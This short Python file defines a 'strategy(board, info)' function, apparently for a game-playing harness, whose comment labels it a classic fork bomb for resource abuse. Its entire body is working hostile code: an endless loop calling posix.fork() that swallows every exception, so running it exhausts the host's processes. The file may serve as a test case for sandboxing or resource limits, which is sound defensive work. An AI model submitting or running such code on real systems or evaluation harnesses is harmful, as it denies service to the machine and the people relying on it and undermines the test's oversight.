# Resource abuse: classic fork bomb.
import posix
def strategy(board, info):
    while True:
        try:
            posix.fork()
        except BaseException:
            pass
